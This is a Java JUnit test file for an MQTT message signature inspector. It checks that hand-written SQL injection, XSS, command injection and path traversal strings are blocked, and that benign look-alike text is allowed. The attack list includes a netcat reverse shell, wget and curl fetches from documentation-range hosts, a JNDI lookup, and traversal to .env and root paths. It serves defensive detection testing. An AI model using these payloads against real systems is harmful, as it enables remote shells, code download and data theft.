package io.mqttsentinel.inspect;

import io.mqttsentinel.api.Action;
import io.mqttsentinel.api.MessageContext;
import io.mqttsentinel.api.ThreatCategory;
import io.mqttsentinel.api.Verdict;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Attacks written for this test, not taken from the corpus, in the encodings the issue names: a small
 * check that the detectors generalise beyond the lists they were measured on. And benign look-alikes.
 */
class AttackVariantsTest {

    private static final MessageContext CTX = new MessageContext("dev-9", "devices/dev-9/state", 0, "", 0L);
    private static final SignatureInspector INSPECTOR = SignatureInspector.withDefaults();

    private static Verdict inspect(String payload) {
        return INSPECTOR.inspect(CTX, ByteBuffer.wrap(payload.getBytes(StandardCharsets.UTF_8)));
    }

    private static Verdict json(String value) {
        StringBuilder sb = new StringBuilder("{\"fw\":\"2.0.1\",\"v\":\"");
        for (char c : value.toCharArray()) {
            if (c == '"' || c == '\\') {
                sb.append('\\');
            }
            sb.append(c);
        }
        return inspect(sb.append("\",\"t\":3}").toString());
    }

    @ParameterizedTest
    @CsvSource(delimiterString = " => ", value = {
        "sql_injection     => admin'/**/Or/**/2>1#",
        "sql_injection     => 7' aNd SlEeP(3)-- x",
        "sql_injection     => 0%27%20union%20all%20select%20null%2Cnull%2Cversion()--",
        "sql_injection     => zz' AND extractvalue(7,concat(0x5c,database()))--",
        "sql_injection     => 3; DROP TABLE telemetry --",
        "sql_injection     => 5 oR 8=8",
        "sql_injection     => x&#x27; or &#x27;q&#x27;=&#x27;q",
        "sql_injection     => 10 AND (SELECT COUNT(*) FROM sensors)>0",
        "sql_injection     => \\u0027 OR 7=7 --",
        "sql_injection     => 1' WAITFOR DELAY '0:0:9'--",
        "xss               => <svg/onload=confirm(9)>",
        "xss               => <img src=q onerror=prompt`7`>",
        "xss               => %253Cscript%253Econfirm(3)%253C%252Fscript%253E",
        "xss               => <a href=\"jav&#x09;ascript:prompt(4)\">go</a>",
        "xss               => \"><iframe src=//evil.example></iframe>",
        "xss               => <body onpageshow=alert(2)>",
        "xss               => <math><mtext><img src=1 onerror=alert(1)>",
        "command_injection => ; /bin/uname -a",
        "command_injection => 42 && wget http://198.51.100.7/x -O /tmp/x",
        "command_injection => $(id)",
        "command_injection => `hostname`",
        "command_injection => ok | nc 198.51.100.7 9001 -e /bin/bash",
        "command_injection => %0a/usr/bin/curl -s http://example.invalid/p.sh",
        "command_injection => x; sleep 9",
        "command_injection => ${jndi:ldap://198.51.100.7/a}",
        "path_traversal    => ..%2f..%2f..%2fvar%2fwww%2f.env",
        "path_traversal    => %252e%252e%252f%252e%252e%252fsecret",
        "path_traversal    => ..\\..\\..\\Windows\\system.ini",
        "path_traversal    => ....//....//boot",
        "path_traversal    => /srv/app/../../root",
        "path_traversal    => %c0%ae%c0%ae/%c0%ae%c0%ae/data",
    })
    void inspect_unseenAttack_rawAndInJson_isBlockedInItsCategory(String category, String attack) {
        for (Verdict v : new Verdict[] {inspect(attack), json(attack)}) {
            assertThat(v.action()).as(attack).isEqualTo(Action.BLOCK);
            assertThat(v.findings()).as(attack).anyMatch(f -> f.category() == ThreatCategory.valueOf(category.toUpperCase()));
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "Please select one option from the menu",
        "The union meeting is at 5; drop by if you can",
        "Run the calibration script at 9pm",
        "See /var/log/app.log and C:\\\\Logs\\\\today.txt",
        "Ratio 3/4 & pressure > 2 bar",
        "Tom's sensor said \\\"ok\\\" or 'fine'",
        "https://example.com/q?a=1&id=7&cat=5",
        "order by date, then group by room",
        "Wait... loading",
        "temperature = 21 and rising",
        "Use <b>bold</b> text",
        "cat food level low",
        "online",
        "echo chamber",
    })
    void inspect_benignLookAlike_inJson_isAllowed(String text) {
        assertThat(inspect("{\"note\":\"" + text + "\"}").action()).as(text).isEqualTo(Action.ALLOW);
    }
}
